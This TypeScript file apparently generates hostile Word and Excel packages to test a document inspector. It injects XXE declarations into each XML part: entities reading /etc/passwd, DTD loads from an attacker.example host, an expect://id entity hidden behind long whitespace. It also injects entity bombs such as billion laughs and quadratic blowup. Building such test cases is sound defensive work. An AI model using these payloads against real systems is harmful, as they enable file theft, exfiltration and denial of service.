import type { UnsafeReason } from '#domain/document/inspection';
import { encoded, type Encoding } from '../../bytes/text-bytes.js';
import type { HostileKind, Variation } from '../../hostile-kind.js';
import type { Sender } from '../../sender.js';
import { OFFICE_FAMILIES, packed } from '../../twins/office.js';
import { CONTENT_TYPES, DECLARATION, PACKAGE_RELATIONS, type Parts, textOf, withPart } from '../../twins/parts.js';

/** A document type declaration for a root element, and the reference that is put into the text where there is one. */
interface Declaration {
  readonly declare: (root: string) => string;
  readonly reference: string | null;
}

const EXTERNAL: readonly Declaration[] = [
  { declare: (root) => `<!DOCTYPE ${root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, reference: '&x;' },
  { declare: (root) => `<!DOCTYPE ${root} [<!ENTITY x SYSTEM "http://attacker.example/x">]>`, reference: '&x;' },
  { declare: (root) => `<!DOCTYPE ${root} [<!ENTITY x PUBLIC "-//A//B" "http://attacker.example/x">]>`, reference: '&x;' },
  { declare: (root) => `<!DOCTYPE ${root} SYSTEM "http://attacker.example/x.dtd">`, reference: null },
  { declare: (root) => `<!DOCTYPE ${root} PUBLIC "-//A//B" "http://attacker.example/x.dtd">`, reference: null },
  { declare: (root) => `<!DOCTYPE ${root} [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>`, reference: null },
  { declare: (root) => `<!DOCTYPE ${root} [<!ENTITY % a "<!ENTITY x SYSTEM 'file:///etc/passwd'>"> %a;]>`, reference: '&x;' },
  { declare: (root) => `<!--${' '.repeat(70_000)}--><!DOCTYPE\n${root}\n[<!ENTITY\nx\nSYSTEM\n'expect://id'>\n]>`, reference: '&x;' },
];

const LEVELS = 10;
const LAUGHS = Array.from({ length: LEVELS }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');

const BOMBS: readonly Declaration[] = [
  { declare: (root) => `<!DOCTYPE ${root} [<!ENTITY l0 "lol">${LAUGHS}]>`, reference: `&l${LEVELS};` },
  { declare: (root) => `<!DOCTYPE ${root} [<!ENTITY q "${'q'.repeat(100_000)}">]>`, reference: '&q;'.repeat(100_000) },
  { declare: (root) => `<!DOCTYPE ${root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>`, reference: '&a;' },
  { declare: (root) => `<!DOCTYPE ${root} [<!ENTITY % p "${'p'.repeat(10_000)}"><!ENTITY x "harmless">]>`, reference: '&x;' },
];

/** Every part that some reader of the package parses, by the folder of the family. */
const PARTS = {
  docx: ['word/document.xml', 'word/styles.xml', 'word/settings.xml', 'word/_rels/document.xml.rels'],
  xlsx: ['xl/workbook.xml', 'xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml', 'xl/styles.xml', 'xl/_rels/workbook.xml.rels'],
} as const;
const COMMON_PARTS = [CONTENT_TYPES, PACKAGE_RELATIONS, 'docProps/core.xml', 'customXml/item1.xml'] as const;

const CUSTOM_PART = `${DECLARATION}<data>1</data>`;

const ENCODINGS: readonly Encoding[] = ['utf-8', 'utf-8', 'utf-8-bom', 'utf-16le', 'utf-16be'];

/** Entities that name something outside: a file of the server, an address in its network. */
export const XXE: HostileKind = {
  kind: 'xxe',
  what: 'A part of a docx or xlsx declares external entities or an external DTD (SYSTEM, PUBLIC, parameter entities), in UTF-8 or UTF-16.',
  source: 'OWASP ASVS 5.0 1.5.1; CWE-611; CVE-2014-3529 (Apache POI), CVE-2017-5992 (openpyxl)',
  *files(sender) {
    yield* declaring(EXTERNAL, sender);
  },
};

/** Entities that grow: exponentially, by the square, or for ever. */
export const ENTITY_BOMB: HostileKind = {
  kind: 'entity-bomb',
  what: 'A part declares entities that expand to gigabytes (billion laughs, quadratic blowup) or to each other.',
  source: 'OWASP ASVS 5.0 1.5.1; CWE-776; CVE-2003-1564',
  *files(sender) {
    yield* declaring(BOMBS, sender);
  },
};

/** Each declaration in each part; the encodings take turns. */
function* declaring(declarations: readonly Declaration[], sender: Sender): Iterable<Variation> {
  let turn = 0;
  for (const family of OFFICE_FAMILIES) {
    for (const part of [...PARTS[family.extension], ...COMMON_PARTS]) {
      for (const declaration of declarations) {
        const encoding = ENCODINGS[turn % ENCODINGS.length] ?? 'utf-8';
        turn += 1;
        const { number, name } = sender.letter(family.extension);
        const parts = () => withDeclaration(family.parts(number), part, declaration, encoding);
        yield { name, expected: reasonsFor(part, encoding), content: () => packed(parts()) };
      }
    }
  }
}

/** In UTF-16 a reader may see no XML at all, and in the list of content types nothing that says what the package is. */
function reasonsFor(part: string, encoding: Encoding): readonly UnsafeReason[] {
  if (encoding === 'utf-8' || encoding === 'utf-8-bom') return ['xml-entities'];
  return part === CONTENT_TYPES ? ['xml-entities', 'damaged', 'type-refused'] : ['xml-entities', 'damaged'];
}

function withDeclaration(parts: Parts, part: string, { declare, reference }: Declaration, encoding: Encoding): Parts {
  const plain = parts.has(part) ? textOf(parts, part) : CUSTOM_PART;
  const place = plain.indexOf('<', plain.indexOf('?>'));
  const root = /<([\w:]+)/u.exec(plain.slice(place))?.[1] ?? '';
  const declared = `${plain.slice(0, place)}${declare(root)}${plain.slice(place)}`;
  const referring = reference === null ? declared : withReference(declared, root, reference);
  const said = encoding.startsWith('utf-16') ? referring.replace('encoding="UTF-8"', 'encoding="UTF-16"') : referring;
  return withPart(parts, part, encoded(said, encoding));
}

/** As the last text of the root element. */
function withReference(text: string, root: string, reference: string): string {
  const place = text.lastIndexOf(`</${root}>`);
  return `${text.slice(0, place)}${reference}${text.slice(place)}`;
}
